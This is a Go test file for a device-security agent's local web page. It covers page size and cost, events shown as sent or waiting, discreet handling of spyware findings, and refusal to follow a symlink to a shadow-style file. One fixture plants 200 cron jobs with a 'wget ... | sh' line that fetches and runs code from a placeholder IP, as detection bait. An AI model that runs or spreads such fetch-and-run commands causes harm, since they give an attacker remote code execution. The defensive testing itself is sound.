package agent

import (
	"compress/gzip"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	ui "picket/agent/page"
)

// pageOf is the page of an agent that has seen a device with 5,000 packages and 200 suspicious jobs, in a store on disk,
// and gives what asks for a page of it.
func pageOf(t testing.TB, packages, jobs int) (get func(path string) *httptest.ResponseRecorder) {
	t.Helper()
	root := smallSystem(t, packages)
	for i := range jobs {
		replace(t, root, fmt.Sprintf("/etc/cron.d/job-%d", i), "* * * * * root wget -qO- http://198.51.100.7/x | sh\n")
	}
	b := newBench(t, root)
	d := b.scanned(t)
	t.Cleanup(func() {
		if err := d.leave(nil); err != nil {
			t.Error(err)
		}
	})
	const address = "127.0.0.1:4711"
	s, err := ui.New(address, d.pageSource(), time.Now, b.log0())
	if err != nil {
		t.Fatal(err)
	}
	enter := httptest.NewRequest("POST", "http://"+address+"/enter", strings.NewReader(url.Values{"token": {s.Token(ui.Grant{Act: true, Language: "nl"})}}.Encode()))
	enter.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	enter.Header.Set("Origin", "http://"+address)
	in := httptest.NewRecorder()
	s.ServeHTTP(in, enter)
	cookies := in.Result().Cookies()
	if in.Code != http.StatusSeeOther || len(cookies) != 1 {
		t.Fatalf("entering: %d", in.Code)
	}
	return func(path string) *httptest.ResponseRecorder {
		r := httptest.NewRequest("GET", "http://"+address+in.Header().Get("Location")+path, nil)
		r.AddCookie(cookies[0])
		r.Header.Set("Accept-Encoding", "gzip")
		w := httptest.NewRecorder()
		s.ServeHTTP(w, r)
		if w.Code != http.StatusOK {
			t.Fatalf("%q: %d", path, w.Code)
		}
		return w
	}
}

// BenchmarkPage is what a page costs the agent, its store included.
func BenchmarkPage(b *testing.B) {
	get := pageOf(b, 5000, 200)
	for _, path := range []string{"", "apps", "apps?q=pkg49", "network", "unchecked", "sent"} {
		b.Run(path, func(b *testing.B) {
			size, before := 0, processCPU()
			for b.Loop() {
				size = get(path).Body.Len()
			}
			b.ReportMetric(float64((processCPU()-before).Milliseconds())/float64(b.N), "cpu-ms/op")
			b.ReportMetric(float64(size), "bytes")
		})
	}
}

// Pages of a large device are small on the wire with what the agent really says, too.
func TestPageOfALargeDeviceIsSmall(t *testing.T) {
	t.Parallel()
	get := pageOf(t, 500, 200)
	for _, path := range []string{"", "apps", "network", "unchecked", "sent"} {
		body := get(path).Body
		if n := body.Len(); n > 100<<10 {
			t.Errorf("%q: %d bytes", path, n)
		}
		z, err := gzip.NewReader(body)
		if err != nil {
			t.Fatal(err)
		}
		whole, err := io.ReadAll(z)
		if n := strings.Count(string(whole), "198.51.100.7") + strings.Count(string(whole), "/etc/cron.d/job-"); err != nil || path == "" && n < 200 {
			t.Errorf("%q: tells of %d jobs: %v", path, n, err)
		}
	}
}

// The file of events has them before the upstream does: what waits is not shown as sent, and its place is told rightly.
func TestPageTellsWhatWaitsFromWhatWasSent(t *testing.T) {
	t.Parallel()
	b := newBench(t, smallSystem(t, 3))
	d := b.scanned(t)
	file, up := newFileSink(b.config.SinkFile, b.config.SinkSize), &fickle{err: errors.New("down")}
	ship := func() (sent, waiting []ui.Event) {
		t.Helper()
		d.ship.hurry()
		d.ship.up.until = 0
		d.ship.round(t.Context(), file, up)
		sent, waiting, err := d.pageEvents(t.Context(), 50)
		if err != nil {
			t.Fatal(err)
		}
		return sent, waiting
	}
	sent, waiting := ship()
	if filed, err := lastLines(b.config.SinkFile); err != nil || len(filed) == 0 || len(sent) != 0 || len(waiting) == 0 {
		t.Errorf("%d lines in the file, %d events said to be sent, %d to wait: %v", len(filed), len(sent), len(waiting), err)
	}
	up.works()
	if sent, waiting = ship(); len(sent) == 0 || len(waiting) != 0 {
		t.Errorf("taken: %d sent, %d wait", len(sent), len(waiting))
	}
	if err := d.leave(nil); err != nil {
		t.Error(err)
	}
}

// What tells of somebody who watches is not given away by another finding about the same app: where the one is not named the
// other is not, and its page begins with how to get help as well.
func TestPageKeepsBackAllOfASubject(t *testing.T) {
	t.Parallel()
	b := noticeBench(t)
	b.packages(t, "bad-one", "spy-one")
	d := b.scanned(t)
	v, err := d.pageView(t.Context())
	if err != nil || len(v.Threats) != 3 {
		t.Fatalf("%+v, %v", v, err)
	}
	for _, f := range v.Threats {
		if f.Discreet != (f.Subject.Name == "spy-one") {
			t.Errorf("%s of %s: discreet %v", f.Rule, f.Subject.Name, f.Discreet)
		}
	}
	if err := d.leave(nil); err != nil {
		t.Error(err)
	}
}

// Whoever may write to the folder of sink_file has the page show no other file: it follows no link there.
func TestPageShowsTheFileOfEventsAlone(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	secret, link := filepath.Join(dir, "shadow"), filepath.Join(dir, "events.ndjson")
	writeTest(t, secret, "root:CANARY\n")
	if err := os.Symlink(secret, link); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{link, dir} {
		if lines, err := lastLines(name); err == nil || len(lines) > 0 {
			t.Errorf("%s: %q, %v", name, lines, err)
		}
	}
	if lines, err := lastLines(secret); err != nil || len(lines) != 1 {
		t.Errorf("%q, %v", lines, err)
	}
	if lines, err := lastLines(filepath.Join(dir, "none")); err != nil || len(lines) > 0 {
		t.Errorf("%q, %v", lines, err)
	}
}
